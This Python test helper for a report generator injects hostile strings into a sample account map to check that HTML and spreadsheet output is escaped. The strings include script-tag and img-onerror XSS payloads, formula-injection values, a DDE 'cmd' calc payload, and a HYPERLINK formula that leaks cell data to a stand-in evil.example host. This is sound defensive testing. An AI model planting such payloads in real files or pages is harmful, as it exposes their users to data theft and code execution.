"""Helpers shared by the report tests: a map full of hostile names, and a tiny HTML tree.

Not a test module (pytest collects only ``test_*.py``); the tests import it by name.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import graphmap
from graphmap.mapfolder import read_text_table

ROOT = Path(__file__).resolve().parent.parent

#: Hostile text put into the sample's names, by person id (and one account name).
HOSTILE_PEOPLE = {
    "vl2": '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',  # uncovered key stakeholder
    "vl5": "</script><script>alert(1)</script>",  # uncovered, on a weak link, drawn in the map
    "vl1": "@SUM(A1:A9)",  # single-threaded key stakeholder
    "s04": "+1+1",  # the member holding the single thread and a weak link
    "s07": "-2+3 | <b>bold</b>",  # a member, with a Markdown table pipe
    "vl3": '"><img src=x onerror=alert(1)>',
    "vl4": "=1+2",  # (the map strips a leading tab or CR; spreadsheet_safe's own tests cover those)
}
HOSTILE_ACCOUNT = ("acc-vela", '"><img src=x onerror=alert(2)><script>alert(3)</script>')
HOSTILE_TITLE = ("vl2", "=cmd|' /C calc'!A0")
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def hostile_map() -> graphmap.AccountMap:
    """The sample map with hostile names in every place a report prints them."""
    sample = ROOT / "data" / "sample"
    people = read_text_table(sample / "people.csv")
    for person_id, name in HOSTILE_PEOPLE.items():
        people.loc[people["person_id"] == person_id, "name"] = name
    people.loc[people["person_id"] == HOSTILE_TITLE[0], "title"] = HOSTILE_TITLE[1]
    accounts = read_text_table(sample / "accounts.csv")
    accounts.loc[accounts["account_id"] == HOSTILE_ACCOUNT[0], "name"] = HOSTILE_ACCOUNT[1]
    accounts.loc[accounts["account_id"] == HOSTILE_ACCOUNT[0], "strategy"] = "<script>alert(4)</script>"
    return graphmap.read_map(sample).with_tables(people=people, accounts=accounts)


@dataclass(eq=False)
class Node:
    """An element of a parsed HTML document."""

    tag: str
    attrs: dict[str, str | None]
    children: list["Node | str"] = field(default_factory=list)

    def text(self) -> str:
        return "".join(c if isinstance(c, str) else c.text() for c in self.children)

    def iter(self):
        yield self
        for child in self.children:
            if isinstance(child, Node):
                yield from child.iter()

    def find_all(self, tag: str | None = None, cls: str | None = None, **attrs: str) -> list["Node"]:
        return [n for n in self.iter()
                if (tag is None or n.tag == tag)
                and (cls is None or cls in (n.attrs.get("class") or "").split())
                and all(n.attrs.get(k.replace("_", "-")) == v for k, v in attrs.items())]

    def find(self, tag: str | None = None, cls: str | None = None, **attrs: str) -> "Node":
        found = self.find_all(tag, cls, **attrs)
        assert found, f"no <{tag} class={cls} {attrs}>"
        return found[0]


_VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}


class _TreeBuilder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.root = Node("#document", {})
        self.stack = [self.root]

    def handle_starttag(self, tag, attrs):
        node = Node(tag, dict(attrs))
        self.stack[-1].children.append(node)
        if tag not in _VOID:
            self.stack.append(node)

    def handle_endtag(self, tag):
        for depth in range(len(self.stack) - 1, 0, -1):
            if self.stack[depth].tag == tag:
                del self.stack[depth:]
                return

    def handle_data(self, data):
        self.stack[-1].children.append(data)


def parse_html(text: str) -> Node:
    """The document as a tree of `Node` (the standard library's html.parser, no guessing)."""
    builder = _TreeBuilder()
    builder.feed(text)
    builder.close()
    return builder.root
